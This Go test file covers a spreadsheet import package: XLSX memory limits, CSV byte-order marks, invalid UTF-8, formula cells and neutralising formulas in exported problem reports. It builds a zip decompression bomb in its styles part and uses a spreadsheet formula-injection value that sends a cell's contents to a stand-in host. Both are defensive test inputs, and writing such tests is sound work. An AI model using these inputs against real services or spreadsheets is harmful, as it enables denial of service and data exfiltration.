package sheet_test

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"github.com/xiangyang-gov/sharehub/internal/errs"
	"github.com/xiangyang-gov/sharehub/internal/sheet"
)

// workbookParts writes a small valid workbook of the test spec's sheet
// with excelize and returns its parts, so a test can swap one for a
// hostile one.
func workbookParts(t *testing.T, rows ...[]any) map[string][]byte {
	t.Helper()
	x := excelize.NewFile()
	x.SetSheetName("Sheet1", "人员")
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := x.SetSheetRow("人员", cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	return partsOf(t, x)
}

// partsOf is the workbook x's zip parts by name.
func partsOf(t *testing.T, x *excelize.File) map[string][]byte {
	t.Helper()
	var buf bytes.Buffer
	if err := x.Write(&buf); err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(buf.Bytes()), int64(buf.Len()))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string][]byte{}
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		parts[f.Name], _ = io.ReadAll(rc)
		rc.Close()
	}
	return parts
}

// zipParts writes parts as an xlsx; big, when set, streams one more
// part's content into the archive without holding it.
func zipParts(t *testing.T, parts map[string][]byte, bigName string, big func(io.Writer)) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "hostile.xlsx")
	fh, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	zw := zip.NewWriter(fh)
	// [Content_Types].xml first, as Excel writes it.
	names := []string{"[Content_Types].xml"}
	for n := range parts {
		if n != names[0] && n != bigName {
			names = append(names, n)
		}
	}
	for _, n := range names {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(parts[n])
	}
	if big != nil {
		w, err := zw.Create(bigName)
		if err != nil {
			t.Fatal(err)
		}
		big(w)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	fh.Close()
	return p
}

// stylesBomb is a styles part of n MiB of empty cell formats: a few
// kilobytes zipped.
func stylesBomb(mib int) func(io.Writer) {
	return func(w io.Writer) {
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>`)
		chunk := bytes.Repeat([]byte("<xf/>"), 1<<20/5)
		for i := 0; i < mib; i++ {
			w.Write(chunk)
		}
		io.WriteString(w, `</cellXfs></styleSheet>`)
	}
}

// TestStylesBombOpensFlat: a workbook of a few kilobytes whose
// styles part inflates to 8 MiB of "<xf/>" (well under the unzip limit)
// is read without excelize decoding it: before, Open took 7 GB of
// allocations and 2 GB of heap for it, and at the default 512 MiB limit
// a 300 KB upload could take the server down.
func TestStylesBombOpensFlat(t *testing.T) {
	parts := workbookParts(t, []any{"姓名", "数量"}, []any{"张三", "3"})
	p := zipParts(t, parts, "xl/styles.xml", stylesBomb(8))
	if st, _ := os.Stat(p); st.Size() > 200<<10 {
		t.Fatalf("the bomb is %d bytes", st.Size())
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	rep, got := readPeople(t, p, "name", "n")
	runtime.ReadMemStats(&after)
	if strings.Join(got, ",") != "张三|3" || !rep.OK() {
		t.Fatalf("rows %q, errors %+v", got, rep.Errors)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 64<<20 {
		t.Fatalf("opening and reading the workbook allocated %d MiB", alloc>>20)
	}
}

// TestStylesBombExcelizeRefused: a workbook the fast reader cannot
// read (its worksheet stored under a Windows path, which only excelize
// accepts) goes to excelize, which would decode the styles bomb whole:
// it is refused as too large before excelize opens it.
func TestStylesBombExcelizeRefused(t *testing.T) {
	parts := workbookParts(t, []any{"姓名"}, []any{"张三"})
	parts[`xl\worksheets\sheet1.xml`] = parts["xl/worksheets/sheet1.xml"]
	delete(parts, "xl/worksheets/sheet1.xml")
	read := func(p string) (int, error) {
		f, err := sheet.Open(p, spec, sheet.Options{})
		if err != nil {
			return 0, err
		}
		defer f.Close()
		rep := sheet.NewReport()
		n := 0
		err = f.Read(context.Background(), "人员", rep, func(*sheet.Row) error { n++; return nil })
		return n, err
	}
	if n, err := read(zipParts(t, parts, "", nil)); err != nil || n != 1 {
		t.Fatalf("the layout only excelize reads: %d rows, %v", n, err)
	}
	p := zipParts(t, parts, "xl/styles.xml", stylesBomb(8))
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := read(p)
	runtime.ReadMemStats(&after)
	if !errs.Is(err, errs.KindTooLarge) || !strings.Contains(err.Error(), "xl/styles.xml") {
		t.Fatalf("err = %v, want too large naming xl/styles.xml", err)
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 64<<20 {
		t.Fatalf("refusing the bomb allocated %d MiB", alloc>>20)
	}
}

// TestUnzipLimitBeforeReading: the total unpacked size is checked
// from the zip directory before any part is read.
func TestUnzipLimitBeforeReading(t *testing.T) {
	parts := workbookParts(t, []any{"姓名"}, []any{"张三"})
	p := zipParts(t, parts, "xl/media/junk.bin", func(w io.Writer) {
		zero := make([]byte, 1<<20)
		for i := 0; i < 40; i++ {
			w.Write(zero)
		}
	})
	_, err := sheet.Open(p, spec, sheet.Options{UnzipSizeLimit: 32 << 20})
	if !errs.Is(err, errs.KindTooLarge) {
		t.Fatalf("err = %v, want too large", err)
	}
}

// readPeople reads sheet 人员 of the file at path: the report, and per row
// the values of cols joined by "|".
func readPeople(t *testing.T, path string, cols ...string) (*sheet.Report, []string) {
	t.Helper()
	f, err := sheet.Open(path, spec, sheet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rep := sheet.NewReport()
	var got []string
	if err := f.Read(context.Background(), "人员", rep, func(r *sheet.Row) error {
		vals := make([]string, len(cols))
		for i, c := range cols {
			vals[i] = r.Get(c)
		}
		got = append(got, strings.Join(vals, "|"))
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return rep, got
}

func readCSV(t *testing.T, body string) (*sheet.Report, []string) {
	t.Helper()
	p := filepath.Join(t.TempDir(), "people.csv")
	if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return readPeople(t, p, "name", "day")
}

// TestCSVBOMQuotedHeader: a UTF-8 CSV with a byte order mark whose
// fields are all quoted (as many exporters write it) is read; before,
// the mark stayed in front of the first quote and the header was a CSV
// syntax error ("bare \" in non-quoted field").
func TestCSVBOMQuotedHeader(t *testing.T) {
	rep, got := readCSV(t, "\ufeff\"姓名\",\"日期\"\r\n\"张三\",\"2024-01-05\"\r\n")
	if !rep.OK() || strings.Join(got, ",") != "张三|2024-01-05" {
		t.Fatalf("rows %q, errors %+v", got, rep.Errors)
	}
}

// TestInvalidUTF8Reported: bytes that are not UTF-8 (a GBK name in a
// file whose first 64 KiB are ASCII, so it is taken as UTF-8) are an
// error at their cell; before, Clean let them through unchanged, into
// the database (PostgreSQL then refuses the row at commit, midway).
func TestInvalidUTF8Reported(t *testing.T) {
	var b strings.Builder
	b.WriteString("\xe5\xa7\x93\xe5\x90\x8d,\xe6\x97\xa5\xe6\x9c\x9f\n") // 姓名,日期 in UTF-8
	for b.Len() < 70<<10 {
		b.WriteString("Zhang,2024-01-05\n")
	}
	rows := strings.Count(b.String(), "\n")
	b.WriteString("\xd5\xc5\xc8\xfd,2024-01-05\n") // 张三 in GBK
	rep, got := readCSV(t, b.String())
	if rep.ErrorCount != 1 || len(rep.Errors) != 1 {
		t.Fatalf("errors %+v", rep.Errors)
	}
	p := rep.Errors[0]
	if p.Row != rows+1 || p.Cell != "A"+strconv.Itoa(rows+1) || p.Column != "姓名" || !strings.Contains(p.Reason, "UTF-8") {
		t.Fatalf("problem %+v, want row %d, cell A%d, column 姓名", p, rows+1, rows+1)
	}
	for _, v := range got {
		if !utf8.ValidString(v) {
			t.Fatalf("a value that is not UTF-8 reached the importer: %q", v)
		}
	}
}

// TestProblemCSVReasonInert: every text column of the problem file
// is made inert, not only the value: a reason can quote the file (the
// licence importer names a face field key from the row in it).
func TestProblemCSVReasonInert(t *testing.T) {
	var out bytes.Buffer
	pc := sheet.NewProblemCSV(&out)
	pc.Add(sheet.Problem{Sheet: "电子证照", Row: 2, Cell: "K2", Column: "照面信息", Reason: `=HYPERLINK("http://x.example/?"&A1,"点击"): not a field of this type`, Value: "-1+1"})
	if err := pc.Flush(); err != nil {
		t.Fatal(err)
	}
	s := out.String()
	if !strings.Contains(s, `'=HYPERLINK(`) || !strings.Contains(s, ",'-1+1") {
		t.Fatalf("formula not made inert:\n%s", s)
	}
}

// A formula cell gives the result the file holds for it, as Excel and WPS
// save it; a formula whose result the file does not hold (excelize and
// other libraries write none) is an error at its cell, not an empty value.
func TestFormulaCells(t *testing.T) {
	x := excelize.NewFile()
	x.SetSheetName("Sheet1", "人员")
	x.SetSheetRow("人员", "A1", &[]any{"姓名", "证件号码", "日期"})
	x.SetSheetRow("人员", "A2", &[]any{"王五", "X1", "2024-01-05"})
	for _, cell := range []string{"A3", "A4"} {
		if err := x.SetCellFormula("人员", cell, `"李四"`); err != nil {
			t.Fatal(err)
		}
	}
	x.SetCellValue("人员", "C3", "2024-01-06")
	x.SetCellValue("人员", "C4", "2024-01-07")
	parts := partsOf(t, x)
	ws := string(parts["xl/worksheets/sheet1.xml"])
	// A3 as Excel saves it, with its result.
	saved := strings.Replace(ws, `<c r="A3" t="str"><f>&#34;李四&#34;</f></c>`, `<c r="A3" t="str"><f>&#34;李四&#34;</f><v>李四</v></c>`, 1)
	if saved == ws {
		t.Fatalf("no formula cell in %s", ws)
	}
	parts["xl/worksheets/sheet1.xml"] = []byte(saved)
	rep, got := readPeople(t, zipParts(t, parts, "", nil), "name")
	if strings.Join(got, ",") != "王五,李四," {
		t.Fatalf("names %q", got)
	}
	if rep.ErrorCount != 1 || rep.Errors[0].Pointer() != "人员!A4" || !strings.Contains(rep.Errors[0].Reason, "formula") {
		t.Fatalf("errors %+v, want one at 人员!A4 about the formula", rep.Errors)
	}
}

// A multi-value cell joined with "；", as the hub's own files write it,
// reads without a note; full-width letters still get one.
func TestMultiSeparatorIsNoChange(t *testing.T) {
	multi := sheet.Spec{Sheets: []sheet.Sheet{{Name: "人员", Columns: []sheet.Column{
		{Key: "name", Header: "姓名", Required: true},
		{Key: "libs", Header: "所属库", Multi: true, Choices: []string{"人口基础库", "法人基础库", "AB"}},
	}}}}
	p := filepath.Join(t.TempDir(), "people.csv")
	if err := os.WriteFile(p, []byte("姓名,所属库\n张三,人口基础库；法人基础库\n李四,ＡＢ\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	f, err := sheet.Open(p, multi, sheet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rep := sheet.NewReport()
	var got []string
	if err := f.Read(context.Background(), "人员", rep, func(r *sheet.Row) error {
		got = append(got, strings.Join(r.List("libs"), "+"))
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if strings.Join(got, ",") != "人口基础库+法人基础库,AB" || !rep.OK() {
		t.Fatalf("values %q, errors %+v", got, rep.Errors)
	}
	if len(rep.Notes) != 1 || rep.Notes[0].Row != 3 {
		t.Fatalf("notes %+v, want one, on row 3", rep.Notes)
	}
}
